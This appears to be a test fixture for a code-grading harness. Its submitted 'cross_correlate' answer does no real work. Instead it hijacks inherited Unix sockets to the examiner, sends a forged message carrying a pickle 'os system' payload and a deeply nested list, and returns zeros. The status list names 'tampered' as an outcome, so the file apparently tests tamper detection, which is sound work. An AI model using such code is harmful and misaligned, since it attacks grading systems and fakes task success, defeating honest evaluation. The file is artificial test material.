"""Answer the examiner's requests oneself, with results that are no data."""

TASK = "arrays"

BEFORE = r"""
import os, socket, struct, threading, time
def ends():
    for number in range(3, 200):
        try:
            end = socket.socket(fileno=os.dup(number))
            if end.family == socket.AF_UNIX and not end.getsockname() and not end.getpeername():
                yield end
        except OSError:
            continue
def send(header, arrays=b"", lengths=None):
    for end in ends():
        try:
            lengths = lengths or (len(header), len(arrays))
            end.setblocking(False)
            end.send(struct.pack("!QQ", *lengths) + header + arrays)
        except OSError:
            pass
"""

ANSWER = r"""
def cross_correlate(x, weight):
    send(b'["dict",[["number",1],["value",["pickle","cos\\nsystem"]]]]')
    send(b'["list",' * 90 + b'1' + b']' * 90)
    return np.zeros((1, 1))
"""

STATUS = ("graded", "tampered", "timed out", "died")
STOCK_IS = "there is no channel"
